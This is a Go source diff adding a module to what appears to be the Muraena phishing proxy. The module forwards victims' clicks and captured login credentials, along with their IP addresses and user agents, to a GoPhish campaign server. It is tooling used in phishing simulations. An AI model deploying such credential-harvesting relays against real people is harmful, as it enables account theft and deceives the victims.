@@ -0,0 +1,276 @@
+// Package gophish reports the clicks and the submissions of the victims to the GoPhish campaign delivering the lures
+package gophish
+
+import (
+	"crypto/tls"
+	"encoding/csv"
+	"errors"
+	"fmt"
+	"io"
+	"io/ioutil"
+	"net/http"
+	"net/url"
+	"os"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"github.com/evilsocket/islazy/tui"
+
+	"github.com/muraenateam/muraena/session"
+)
+
+const (
+	// Name of this module
+	Name = "gophish"
+
+	// Description of this module
+	Description = "Reports the clicks and the submitted data of the victims to the GoPhish campaign"
+
+	// Author of this module
+	Author = "Muraena Team"
+
+	// bufferSize is the number of events queued for GoPhish
+	bufferSize = 1024
+
+	// submissionDelay groups the credentials of a form, captured one by one, in a single submission
+	submissionDelay = 2 * time.Second
+)
+
+// GoPhish module
+//
+// GoPhish does not expose the results of the campaigns in its API, they are recorded by its phishing server: a GET
+// of a landing page with the rid parameter of a recipient records a click, a POST records the data submitted.
+// The module replays the events of the victims on the phishing server, so that the campaign reports them.
+type GoPhish struct {
+	session.SessionModule
+
+	Enabled bool
+
+	url    *url.URL
+	client *http.Client
+
+	// recipients maps the lure tokens to the recipient IDs, nil if the tokens are the recipient IDs
+	recipients map[string]string
+
+	mu sync.Mutex
+	// victims holds the address and the user agent of the victims, sent with their submissions
+	victims map[string]victim
+	// pending holds the credentials not yet submitted
+	pending map[string]url.Values
+
+	pushed, failed uint64
+}
+
+// victim is the client of a victim, as reported by the tracker
+type victim struct {
+	ip, ua string
+}
+
+// Name returns the module name
+func (module *GoPhish) Name() string {
+	return Name
+}
+
+// Description returns the module description
+func (module *GoPhish) Description() string {
+	return Description
+}
+
+// Author returns the module author
+func (module *GoPhish) Author() string {
+	return Author
+}
+
+// Prompt prints module status based on the provided parameters
+func (module *GoPhish) Prompt() {
+	module.Raw("%d events pushed to %s, %d failed", atomic.LoadUint64(&module.pushed), module.url,
+		atomic.LoadUint64(&module.failed))
+}
+
+// Load configures the module by initializing its main structure and variables
+func Load(s *session.Session) (m *GoPhish, err error) {
+
+	config := s.Config.GoPhish
+	m = &GoPhish{
+		SessionModule: session.NewSessionModule(Name, s),
+		Enabled:       config.Enabled,
+		victims:       make(map[string]victim),
+		pending:       make(map[string]url.Values),
+	}
+
+	if !m.Enabled {
+		m.Debug("is disabled")
+		return
+	}
+
+	if !s.Config.Tracking.Enabled {
+		return nil, errors.New("gophish requires the tracking of the victims")
+	}
+
+	if m.url, err = url.Parse(config.URL); err != nil || (m.url.Scheme != "http" && m.url.Scheme != "https") {
+		return nil, fmt.Errorf("invalid gophish phishing server URL %s", config.URL)
+	}
+
+	if config.Recipients != "" {
+		if m.recipients, err = loadRecipients(config.Recipients); err != nil {
+			return nil, fmt.Errorf("error loading the gophish recipients: %w", err)
+		}
+	}
+
+	m.client = &http.Client{
+		Timeout: 10 * time.Second,
+		Transport: &http.Transport{
+			Proxy:           http.ProxyFromEnvironment,
+			TLSClientConfig: &tls.Config{InsecureSkipVerify: config.Insecure},
+		},
+		// The landing pages redirect the submissions, whose results are already recorded
+		CheckRedirect: func(*http.Request, []*http.Request) error {
+			return http.ErrUseLastResponse
+		},
+	}
+
+	session.RegisterStats(Name, m.Stats)
+
+	events, _ := session.Subscribe(bufferSize)
+	go m.dispatch(events)
+
+	m.Info("reporting the victims to %s", tui.Bold(m.url.String()))
+	return
+}
+
+// loadRecipients reads the CSV file mapping the lure tokens to the recipient IDs, one token and ID per line
+func loadRecipients(path string) (map[string]string, error) {
+	file, err := os.Open(path)
+	if err != nil {
+		return nil, err
+	}
+	defer file.Close()
+
+	r := csv.NewReader(file)
+	r.Comment = '#'
+	r.FieldsPerRecord = 2
+	r.TrimLeadingSpace = true
+
+	recipients := make(map[string]string)
+	for {
+		record, err := r.Read()
+		if err == io.EOF {
+			break
+		}
+		if err != nil {
+			return nil, err
+		}
+		recipients[record[0]] = record[1]
+	}
+
+	return recipients, nil
+}
+
+// Stats returns the number of events pushed to GoPhish
+func (module *GoPhish) Stats() map[string]interface{} {
+	return map[string]interface{}{
+		"pushed": atomic.LoadUint64(&module.pushed),
+		"failed": atomic.LoadUint64(&module.failed),
+	}
+}
+
+// recipient returns the recipient ID of the victim, empty if the victim is not a recipient of the campaign
+func (module *GoPhish) recipient(token string) string {
+	if module.recipients == nil {
+		return token
+	}
+	return module.recipients[token]
+}
+
+// dispatch reports the clicks of the new victims and the credentials they submit
+func (module *GoPhish) dispatch(events <-chan session.Event) {
+	for e := range events {
+		rid := module.recipient(e.Victim)
+		if rid == "" {
+			continue
+		}
+
+		switch e.Type {
+		case session.EventVictim:
+			v := victim{ip: e.Data["ip"], ua: e.Data["ua"]}
+			module.mu.Lock()
+			module.victims[e.Victim] = v
+			module.mu.Unlock()
+
+			module.push(http.MethodGet, rid, v, nil)
+
+		case session.EventCredentials:
+			module.submit(e.Victim, rid, e.Data["key"], e.Data["value"])
+		}
+	}
+}
+
+// submit queues a credential of the victim, submitted with the others captured within the submissionDelay
+func (module *GoPhish) submit(token, rid, key, value string) {
+	module.mu.Lock()
+	defer module.mu.Unlock()
+
+	if form, ok := module.pending[token]; ok {
+		form.Add(key, value)
+		return
+	}
+
+	module.pending[token] = url.Values{key: []string{value}}
+	time.AfterFunc(submissionDelay, func() {
+		module.mu.Lock()
+		form, v := module.pending[token], module.victims[token]
+		delete(module.pending, token)
+		module.mu.Unlock()
+
+		module.push(http.MethodPost, rid, v, form)
+	})
+}
+
+// push replays an event of the recipient on the phishing server: a click, or a submission of the form
+func (module *GoPhish) push(method, rid string, v victim, form url.Values) {
+	u := *module.url
+	query := u.Query()
+	query.Set("rid", rid)
+	u.RawQuery = query.Encode()
+
+	var body io.Reader
+	if form != nil {
+		body = strings.NewReader(form.Encode())
+	}
+
+	req, err := http.NewRequest(method, u.String(), body)
+	if err != nil {
+		module.Warning("error pushing to gophish: %s", err)
+		return
+	}
+	if form != nil {
+		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	}
+	if v.ua != "" {
+		req.Header.Set("User-Agent", v.ua)
+	}
+	if v.ip != "" {
+		req.Header.Set("X-Forwarded-For", v.ip)
+	}
+
+	resp, err := module.client.Do(req)
+	if err != nil {
+		atomic.AddUint64(&module.failed, 1)
+		module.Warning("error pushing to gophish: %s", err)
+		return
+	}
+	io.Copy(ioutil.Discard, resp.Body)
+	resp.Body.Close()
+
+	// GoPhish answers 404 for the unknown recipients and the completed campaigns
+	if resp.StatusCode >= http.StatusBadRequest {
+		atomic.AddUint64(&module.failed, 1)
+		module.Warning("gophish returned %s for recipient %s", resp.Status, rid)
+		return
+	}
+
+	atomic.AddUint64(&module.pushed, 1)
+	module.Debug("pushed %s of recipient %s to gophish", method, rid)
+}